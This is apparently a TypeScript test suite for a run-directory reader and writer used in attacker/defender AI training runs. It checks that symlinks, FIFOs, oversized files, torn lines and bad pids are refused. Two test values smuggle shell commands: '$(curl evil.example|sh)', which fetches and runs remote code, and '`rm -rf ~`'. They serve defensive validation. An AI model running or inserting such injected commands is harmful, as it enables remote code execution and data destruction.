/**
 * A run directory from someone else: copied from a GPU machine or a colleague, or pulled with a
 * repository, then opened, followed, annotated and resumed. Issue 12's findings 2, 3, 4 (line
 * lengths) and 8, and what held before (torn lines, corrupt and too-new manifests).
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  RunReader,
  RunWriter,
  listRuns,
  putAnnotation,
  readRunInfo,
  runLayout,
  savedSlots,
  type RunInfo,
} from '../../extension/rundir';
import { readSweepInfo } from '../../extension/rundir/sweep';
import { makeFifo, type BadInputCase } from './harness';

const NEW_RUN = {
  id: 'shared-run',
  name: 'shared-run',
  mode: 'bipolicy' as const,
  engine: 'ort',
  base_model: 'builtin:sandbox',
  rounds_planned: 3,
  roles: ['attacker', 'defender'],
  config: { rounds: 3 },
};
/** A pid no process has (Linux pids stay below 2^22). */
const DEAD_PID = 2 ** 22 + 4321;

/** A finished run as a colleague would hand it over (their pid and host). */
function colleaguesRun(dir: string, patch: Partial<RunInfo> | null = null): string {
  const w = RunWriter.create(path.join(dir, 'runs'), NEW_RUN, { pid: DEAD_PID, host: 'gpu-box' });
  w.event({ type: 'start', round: 0, config_hash: 'x' });
  w.completeRound(0, { steps: null, roles: ['attacker', 'defender'], metrics: {}, exchanges: 0 });
  w.setStatus('stopped', 'stopped by the user');
  if (patch) editRunJson(w.dir, patch);
  return w.dir;
}

function editRunJson(runDir: string, patch: Record<string, unknown>, drop: string[] = []): void {
  const file = runLayout(runDir).runJson;
  const raw = JSON.parse(fs.readFileSync(file, 'utf8'));
  for (const k of drop) delete raw[k];
  fs.writeFileSync(file, JSON.stringify({ ...raw, ...patch }, null, 2));
}

/** A file outside the run that a link inside it points at (a shell rc file, say). */
function outsideFile(dir: string, name = 'bashrc'): string {
  const f = path.join(dir, 'home', name);
  fs.mkdirSync(path.dirname(f), { recursive: true });
  fs.writeFileSync(f, 'export PATH=$PATH:~/bin\n');
  return f;
}

export const cases: BadInputCase[] = [
  {
    name: 'run.json is a FIFO: opening the run is an error at once, never a blocked thread',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      makeFifo(runLayout(run).runJson);
      return run;
    },
    act: (_dir, run) => readRunInfo(run as string),
    expect: { error: /run\.json cannot be read: it is a FIFO/ },
    deadlineMs: 2000,
  },
  {
    name: 'run.json is a FIFO: listing the runs folder reports that run and lists the others',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      RunWriter.create(path.join(dir, 'runs'), { ...NEW_RUN, id: 'fine' }, { pid: DEAD_PID, host: 'gpu-box' });
      makeFifo(runLayout(run).runJson);
    },
    act: (dir) => listRuns(path.join(dir, 'runs')),
    expect: {
      handled: (r) => {
        const list = r as ReturnType<typeof listRuns>;
        assert.equal(list.length, 2);
        assert.equal(list[0].info?.id, 'fine');
        assert.match(list[1].error?.message ?? '', /run\.json cannot be read: it is a FIFO/);
      },
    },
    deadlineMs: 2000,
  },
  {
    name: 'run.json is a symbolic link to a file outside: not followed',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      const elsewhere = path.join(dir, 'elsewhere.json');
      fs.copyFileSync(runLayout(run).runJson, elsewhere);
      fs.rmSync(runLayout(run).runJson);
      fs.symlinkSync(elsewhere, runLayout(run).runJson);
      return run;
    },
    act: (_dir, run) => readRunInfo(run as string),
    expect: { error: /run\.json cannot be read: it is a symbolic link/ },
  },
  {
    name: 'annotations.jsonl is a link to a shell rc file: annotating refuses and the rc file is untouched',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      fs.symlinkSync(outsideFile(dir), runLayout(run).annotations);
      return run;
    },
    act: (_dir, run) => putAnnotation(run as string, { exchange: 'r0001-s000001-000', round: 1, label: 'jailbreak', note: 'x' }),
    expect: { error: /annotations\.jsonl: is a symbolic link/ },
    unchanged: (dir) => [path.join(dir, 'home', 'bashrc')],
  },
  {
    name: 'an exchange id holding $(cmd) cannot become an annotation (ids are letters, digits and ._:-)',
    setup: (dir) => colleaguesRun(dir),
    act: (_dir, run) => putAnnotation(run as string, { exchange: '$(curl evil.example|sh)', round: 1, label: 'jailbreak', note: 'x' }),
    expect: { error: /invalid annotation: exchange: must be 1-128 letters, digits or \._:-/ },
    unchanged: (_dir, run) => [runLayout(run as string).annotations],
  },
  {
    name: 'a transcript line whose exchange id holds a shell expansion is skipped and reported, not shown',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      fs.writeFileSync(
        runLayout(run).transcript(0),
        JSON.stringify({ id: '`rm -rf ~`', attempt: 1, round: 0, step: 0, seed: { prompt: 'p', harmful: true }, attacked: false, turns: [{ attacker: null, defender: { thought: null, text: 't', raw: 't' } }], judge: { prompt_harmful: true, refusal: true, response_harmful: false, unparsable: false }, rewards: { attacker: null, defender: 1 }, adapters: {} }) + '\n',
      );
      return run;
    },
    act: (_dir, run) => {
      const reader = RunReader.open(run as string);
      return { exchanges: reader.transcript(0), issues: reader.issues() };
    },
    expect: {
      handled: (r) => {
        const { exchanges, issues } = r as { exchanges: unknown[]; issues: { file: string; problem: string }[] };
        assert.equal(exchanges.length, 0);
        assert.match(issues[0].problem, /id: must be 1-128 letters/);
        assert.match(issues[0].file, /round-0000\.jsonl$/);
      },
    },
  },
  {
    name: 'events.jsonl is a link to a file outside: resuming refuses before writing anything',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      const target = outsideFile(dir, 'events-target');
      fs.rmSync(runLayout(run).events);
      fs.symlinkSync(target, runLayout(run).events);
      return run;
    },
    act: (_dir, run) => RunWriter.resume(run as string, { pid: process.pid }),
    expect: { error: /events\.jsonl: is a symbolic link/ },
    unchanged: (dir, run) => [path.join(dir, 'home', 'events-target'), runLayout(run as string).runJson],
  },
  {
    name: 'transcripts/ is a link to a folder outside: the trainer writes no exchange through it',
    setup: (dir) => {
      const run = RunWriter.create(path.join(dir, 'runs'), NEW_RUN, { pid: process.pid }).dir;
      const outside = path.join(dir, 'outside');
      fs.mkdirSync(outside);
      fs.rmSync(runLayout(run).transcripts, { recursive: true });
      fs.symlinkSync(outside, runLayout(run).transcripts);
      return run;
    },
    act: (_dir, run) => {
      const w = RunWriter.open(run as string);
      w.exchange({ id: 'r0001-s000001-000', round: 1, step: 1, seed: { prompt: 'p', harmful: true }, attacked: false, turns: [{ attacker: null, defender: { thought: null, text: 't', raw: 't' } }], judge: { prompt_harmful: true, refusal: true, response_harmful: false, unparsable: false }, rewards: { attacker: null, defender: 1 }, adapters: {} });
    },
    expect: { error: /transcripts: is a symbolic link; links inside a run directory are not followed/ },
    unchanged: (dir) => [path.join(dir, 'outside', 'round-0001.jsonl')],
  },
  {
    name: 'a round folder that is a link out of the run is neither read as a round nor written through',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      const outside = path.join(dir, 'outside-round');
      fs.mkdirSync(path.join(outside, 'defender'), { recursive: true });
      fs.writeFileSync(path.join(outside, 'round.json'), fs.readFileSync(runLayout(run).roundJson(0)));
      fs.writeFileSync(path.join(outside, 'defender', 'adapter_config.json'), '{}');
      fs.symlinkSync(outside, runLayout(run).round(1));
      return run;
    },
    act: (_dir, run) => {
      const r = run as string;
      const rounds = RunReader.open(r).rounds().map((x) => x.round);
      const slots = savedSlots(r, 1);
      let writeError = '';
      try {
        RunWriter.open(r).slotDir(1, 'defender');
      } catch (e) {
        writeError = (e as Error).message;
      }
      return { rounds, slots, writeError };
    },
    expect: {
      handled: (r) => {
        const { rounds, slots, writeError } = r as { rounds: number[]; slots: unknown[]; writeError: string };
        assert.deepEqual(rounds, [0]);
        assert.deepEqual(slots, []);
        assert.match(writeError, /round-0001: is a symbolic link/);
      },
    },
    unchanged: (dir) => [path.join(dir, 'outside-round', 'defender', 'adapter_config.json')],
  },
  {
    name: 'a 20 MB last line without a newline: each poll reads only new bytes, the line is skipped once',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      const fd = fs.openSync(runLayout(run).events, 'a');
      const block = Buffer.alloc(1024 * 1024, 'x');
      for (let i = 0; i < 20; i++) fs.writeSync(fd, block);
      fs.closeSync(fd);
      return run;
    },
    act: (_dir, run) => {
      const follower = RunReader.open(run as string).follow();
      const first = follower.poll();
      const t = performance.now();
      for (let i = 0; i < 20; i++) follower.poll();
      return { skipped: first.skipped, events: first.events.length, repeatMs: (performance.now() - t) / 20 };
    },
    expect: {
      handled: (r) => {
        const { skipped, events, repeatMs } = r as { skipped: { problem: string }[]; events: number; repeatMs: number };
        assert.ok(events >= 3, 'the records before the long line are read');
        assert.equal(skipped.length, 1);
        assert.match(skipped[0].problem, /line longer than 8388608 bytes/);
        assert.ok(repeatMs < 50, `a poll with nothing new took ${repeatMs} ms`);
      },
    },
    heapMb: 96,
  },
  {
    name: 'a torn last line (a killed writer) is skipped and counted, the rest read',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      fs.appendFileSync(runLayout(run).events, '{"type":"step","t":"2026');
      return run;
    },
    act: (_dir, run) => {
      const w = RunWriter.open(run as string); // ends the torn line
      w.event({ type: 'log', level: 'info', message: 'after' });
      const reader = RunReader.open(run as string);
      return { events: reader.events(), issues: reader.issues() };
    },
    expect: {
      handled: (r) => {
        const { events, issues } = r as { events: { type: string }[]; issues: { problem: string }[] };
        assert.equal(events[events.length - 1].type, 'log');
        assert.equal(issues.length, 1);
        assert.match(issues[0].problem, /incomplete line/);
      },
    },
  },
  ...(['-1', '0', '1', `-${process.pid}`] as const).map(
    (pid): BadInputCase => ({
      name: `run.json with pid ${pid} (every process, a group, init): the run is refused as corrupt, naming pid`,
      setup: (dir) => {
        const run = colleaguesRun(dir);
        editRunJson(run, { pid: Number(pid), status: 'running', host: os.hostname() });
        return run;
      },
      act: (_dir, run) => readRunInfo(run as string),
      expect: { error: /run\.json is corrupt: pid: Too small: expected number to be >=2/ },
    }),
  ),
  {
    name: 'run.json claims a newer format: refused with its version (held)',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      editRunJson(run, { version: 99 });
      return run;
    },
    act: (_dir, run) => readRunInfo(run as string),
    expect: { error: /run\.json has format version 99, newer than the version 1/ },
  },
  {
    name: 'run.json is not JSON: refused as corrupt (held)',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      fs.writeFileSync(runLayout(run).runJson, '{"format": "absp-run", ');
      return run;
    },
    act: (_dir, run) => readRunInfo(run as string),
    expect: { error: /run\.json is corrupt: not valid JSON/ },
  },
  {
    name: 'run.json of 2 MB: refused without being read whole',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      editRunJson(run, { padding: 'x'.repeat(2 * 1024 * 1024) });
      return run;
    },
    act: (_dir, run) => readRunInfo(run as string),
    expect: { error: /run\.json cannot be read: it is \d+ bytes, more than the 1048576-byte limit/ },
  },
  {
    name: 'config.json of 20 MB: reported as a problem of that file, the run still opens',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      fs.writeFileSync(runLayout(run).config, JSON.stringify({ pad: 'x'.repeat(20 * 1024 * 1024) }));
      return run;
    },
    act: (_dir, run) => RunReader.open(run as string).load(),
    expect: {
      handled: (r) => {
        const snap = r as ReturnType<RunReader['load']>;
        assert.equal(snap.config, null);
        assert.ok(snap.issues.some((i) => /config\.json$/.test(i.file) && /more than the 16777216-byte limit/.test(i.problem)));
      },
    },
    heapMb: 64,
  },
  {
    name: 'resuming a completed run is refused (finding 8)',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      RunWriter.open(run).setStatus('completed');
      return run;
    },
    act: (_dir, run) => RunWriter.resume(run as string, { pid: process.pid }),
    expect: { error: /is complete \(0 of 3 rounds\); there is nothing to resume/ },
    unchanged: (_dir, run) => [runLayout(run as string).runJson, runLayout(run as string).events],
  },
  {
    name: 'temporary files of interrupted atomic writes are removed on resume (finding 8)',
    setup: (dir) => {
      const run = colleaguesRun(dir);
      const stale = [path.join(run, `.run.json.${DEAD_PID}.1700000000000.tmp`), path.join(runLayout(run).round(0), 'attacker', `.adapter_model.safetensors.${DEAD_PID}.1.tmp`)];
      for (const f of stale) {
        fs.mkdirSync(path.dirname(f), { recursive: true });
        fs.writeFileSync(f, 'half');
      }
      return { run, stale };
    },
    act: (_dir, s) => {
      RunWriter.resume((s as { run: string }).run, { pid: process.pid });
      return (s as { stale: string[] }).stale.map((f) => fs.existsSync(f));
    },
    expect: { handled: (r) => assert.deepEqual(r, [false, false]) },
  },
  {
    name: 'a creation killed before run.json leaves no run folder, and its staging folder is cleaned later (finding 8)',
    setup: (dir) => {
      const runs = path.join(dir, 'runs');
      // What a kill between mkdir and the first manifest write leaves: a hidden staging folder.
      fs.mkdirSync(path.join(runs, `.creating-killed.${DEAD_PID}`, 'rounds'), { recursive: true });
      return runs;
    },
    act: (_dir, runs) => {
      const listedBefore = listRuns(runs as string).length;
      RunWriter.create(runs as string, { ...NEW_RUN, id: 'next' }, { pid: process.pid });
      return { listedBefore, names: fs.readdirSync(runs as string).sort() };
    },
    expect: { handled: (r) => assert.deepEqual(r, { listedBefore: 0, names: ['next'] }) },
  },
  {
    name: "a crash before round 0's round.json: after resume, round 0's event is there once (finding 8)",
    setup: (dir) => {
      const w = RunWriter.create(path.join(dir, 'runs'), NEW_RUN, { pid: DEAD_PID, host: os.hostname() });
      w.event({ type: 'start', round: 0, config_hash: 'x' });
      w.event({ type: 'round', round: 0, metrics: { nash_gap: 0.8 } }); // then killed before round.json
      return w.dir;
    },
    act: (_dir, run) => {
      const w = RunWriter.resume(run as string, { pid: process.pid });
      w.event({ type: 'start', round: 0, config_hash: 'x' });
      w.completeRound(0, { steps: null, roles: ['attacker', 'defender'], metrics: { nash_gap: 0.8 }, exchanges: 0 });
      return RunReader.open(run as string).load().events;
    },
    expect: {
      handled: (r) => {
        const events = r as { type: string; round?: number }[];
        assert.equal(events.filter((e) => e.type === 'round' && e.round === 0).length, 1);
        assert.equal(events.filter((e) => e.type === 'start').length, 1);
      },
    },
  },
  {
    name: 'killed between round.json and run.json: resume repairs rounds_completed (finding 8)',
    setup: (dir) => {
      const w = RunWriter.create(path.join(dir, 'runs'), NEW_RUN, { pid: DEAD_PID, host: os.hostname() });
      w.completeRound(0, { steps: null, roles: [], metrics: {}, exchanges: 0 });
      w.completeRound(1, { steps: [1, 2], roles: [], metrics: {}, exchanges: 0 });
      editRunJson(w.dir, { rounds_completed: 0 }); // run.json as it was before the kill
      return w.dir;
    },
    act: (_dir, run) => {
      RunWriter.resume(run as string, { pid: process.pid });
      return readRunInfo(run as string).rounds_completed;
    },
    expect: { handled: (r) => assert.equal(r, 1) },
  },
  {
    name: 'a sweep folder whose sweep.json is a FIFO: opening it is an error at once',
    setup: (dir) => {
      const sweep = path.join(dir, 'sweep');
      fs.mkdirSync(sweep);
      makeFifo(path.join(sweep, 'sweep.json'));
      return sweep;
    },
    act: (_dir, sweep) => readSweepInfo(sweep as string),
    expect: { error: /sweep\/sweep\.json: cannot be read: it is a FIFO/ },
    deadlineMs: 1000,
  },
  {
    name: 'a sweep folder whose sweep.json is a link to a file elsewhere: not followed',
    setup: (dir) => {
      const sweep = path.join(dir, 'sweep');
      fs.mkdirSync(sweep);
      fs.writeFileSync(path.join(dir, 'elsewhere.json'), JSON.stringify({ format: 'absp-sweep', version: 1 }));
      fs.symlinkSync(path.join(dir, 'elsewhere.json'), path.join(sweep, 'sweep.json'));
      return sweep;
    },
    act: (_dir, sweep) => readSweepInfo(sweep as string),
    expect: { error: /sweep\/sweep\.json: cannot be read: it is a symbolic link/ },
  },
];
